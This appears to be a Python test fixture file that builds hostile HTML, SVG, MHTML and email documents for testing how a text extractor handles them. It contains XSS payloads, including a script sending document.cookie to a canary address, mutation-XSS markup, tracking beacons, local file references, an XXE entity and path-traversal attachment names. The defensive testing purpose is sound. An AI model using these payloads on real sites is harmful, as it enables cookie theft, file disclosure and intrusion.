"""Pages of HTML that would run, fetch, send, hide, or come out of a cleaner as something else."""

from __future__ import annotations

from tests.hostile.files import BadFile, Canary, fixed

_SEEN = "This is the sentence that a reader of the page sees."


def page(body: str, head: str = "") -> bytes:
    return (
        f'<!doctype html><html lang="en"><head><meta charset="utf-8"><title>A page</title>{head}</head>'
        f"<body><p>{_SEEN}</p>{body}</body></html>"
    ).encode()


def scripts(canary: Canary) -> bytes:
    return page(
        f'<script>fetch("{canary.address}/x?"+document.cookie)</script>'
        f'<img src=x onerror="fetch(\'{canary.address}\')"><a href="javascript:alert(1)">a link</a>'
        '<body onload="alert(1)"><svg onload=alert(1)><script>alert(2)</script></svg>'
        "<noscript>for those without scripts</noscript>"
    )


def beacons(canary: Canary) -> bytes:
    a = canary.address
    return page(
        f'<img src="{a}/1.gif"><picture><source srcset="{a}/2.png 2x"></picture>'
        f'<video src="{a}/3.mp4" poster="{a}/4"></video><audio src="{a}/5"></audio>'
        f'<object data="{a}/6"></object><embed src="{a}/7">'
        f'<div style="background:url({a}/8)">styled</div>',
        f'<link rel="stylesheet" href="{a}/9.css"><link rel="preload" href="{a}/10"><base href="{a}/">'
        f'<style>@import "{a}/11"; @font-face {{src: url({a}/12)}}</style>'
        f'<meta http-equiv="refresh" content="0;url={a}/13"><script src="{a}/14.js"></script>',
    )


def files(canary: Canary) -> bytes:
    """Every way in which a page can ask for a file of this machine."""
    u = canary.path.as_uri()
    return page(
        f'<iframe src="{u}"></iframe><object data="{u}"></object><embed src="{u}"><img src="{u}">'
        f'<link rel="import" href="{u}"><script src="{u}"></script><a href="{u}">a link</a>'
        f'<iframe src="data:text/html,<iframe src={u}>"></iframe>'
    )


def framed(_: Canary) -> bytes:
    return page('<iframe srcdoc="<p>framed words</p>"></iframe>')


def data_address(_: Canary) -> bytes:
    return page('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open me</a>')


def svg_inside(canary: Canary) -> bytes:
    return page(
        f'<svg><image href="{canary.address}/x"/><use href="{canary.path.as_uri()}#a"/>'
        "<text>drawn words</text><foreignObject><p>words in a drawing</p></foreignObject></svg>"
    )


def mutating(_: Canary) -> bytes:
    """Markup that cleaners have let pass and browsers then run (mutation XSS)."""
    return page(
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    )


def comment_without_end(_: Canary) -> bytes:
    return page("<p>before the comment</p><!-- what follows is said to be no text <p>swallowed</p>")


def hidden(_: Canary) -> bytes:
    return page(
        '<div style="display:none">words for machines</div><p hidden>more of them</p>'
        '<p style="position:absolute;left:-9999px">beside the page</p>'
    )


def turning(_: Canary) -> bytes:
    return page("<p>the age is \u202e71\u202c years</p>")


def svg_alone(canary: Canary) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "{canary.path.as_uri()}">]>'
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>&a;</text>'
        "<script>alert(1)</script></svg>"
    ).encode()


def only_scripts(_: Canary) -> bytes:
    return (
        b"<!doctype html><html><head><script>document.write('later')</script></head>"
        b"<body><div id=app></div></body></html>"
    )


def saved_page(canary: Canary) -> bytes:
    """MHTML whose parts are said to be files of this machine."""
    u = canary.path.as_uri()
    return (
        "From: <Saved by a browser>\r\nSnapshot-Content-Location: http://example.org/\r\nSubject: A page\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/related; type="text/html"; boundary="b"\r\n\r\n'
        "--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Location: http://example.org/\r\n\r\n"
        f'<!doctype html><p>{_SEEN}</p><iframe src="cid:frame"></iframe><img src="{u}">\r\n'
        f"--b\r\nContent-Type: text/html\r\nContent-ID: <frame>\r\nContent-Location: {u}\r\n\r\n"
        "<p>words of a frame</p>\r\n--b--\r\n"
    ).encode()


def mail(canary: Canary) -> bytes:
    """A mail whose attachments want to be written outside, and whose body stands elsewhere (RFC 2017)."""
    return (
        "From: a@example.org\r\nTo: b@example.org\r\nSubject: =?utf-8?q?=1B[2J?=\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
        f"--b\r\nContent-Type: text/plain\r\n\r\n{_SEEN}\r\n"
        "--b\r\nContent-Type: text/plain; name=../../planted-by-a-hostile-file\r\n"
        'Content-Disposition: attachment; filename="../../planted-by-a-hostile-file"\r\n\r\n'
        "written outside\r\n"
        f'--b\r\nContent-Type: message/external-body; access-type=local-file; name="{canary.path}"\r\n\r\n'
        "Content-Type: text/plain\r\n\r\n\r\n--b--\r\n"
    ).encode()


def mail_in_mail(depth: int) -> bytes:
    head = b"From: a@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
    return (head + b"Content-Type: message/rfc822\r\n\r\n") * depth + head + b"\r\nthe innermost\r\n"


FILES = (
    BadFile(
        "scripts.html",
        scripts,
        "read",
        ("letters from its readers",),
        holds=(_SEEN,),
        lacks=("alert", "fetch", "document.cookie"),
    ),
    BadFile("beacons.html", beacons, "read", holds=(_SEEN, "styled"), lacks=("@import", "127.0.0.1")),
    BadFile("files.html", files, "read", holds=(_SEEN, "a link")),
    BadFile("framed.html", framed, "read", ("A page framed inside this one was not read.",), text=_SEEN),
    BadFile("data.html", data_address, "read", holds=(_SEEN, "open me"), lacks=("alert",)),
    BadFile("svg.html", svg_inside, "read", holds=(_SEEN,)),
    BadFile("mutating.html", mutating, "read", holds=(_SEEN,)),
    BadFile(
        "comment.html",
        comment_without_end,
        "read",
        ("A comment that never ends",),
        holds=(_SEEN, "before the comment"),
        lacks=("swallowed",),
    ),
    BadFile(
        "hidden.html", hidden, "read", ("letters from its readers",), holds=(_SEEN, "words for machines")
    ),
    BadFile("turning.html", turning, "read", ("turn the direction of letters",), holds=(_SEEN,)),
    BadFile("drawing.svg", svg_alone, says=("it is an SVG drawing",)),
    BadFile("scripts-only.html", only_scripts, "empty", ("only what puts text in later",)),
    BadFile("saved.mhtml", saved_page, "read", ("framed inside this one",), text=_SEEN),
    BadFile(
        "mail.eml",
        mail,
        "read",
        holds=(_SEEN,),
        lacks=("\x1b",),
        members={"../../planted-by-a-hostile-file": "read"},
    ),
    BadFile("mail-in-mail.eml", lambda _: mail_in_mail(2_000), says=("too deeply nested",)),
    BadFile(
        "head-only.eml",
        fixed(b"From: a@example.org\r\nSubject: x\r\nDate: now\r\n\r\n"),
        "read",
        text="x\nnow",
    ),
)
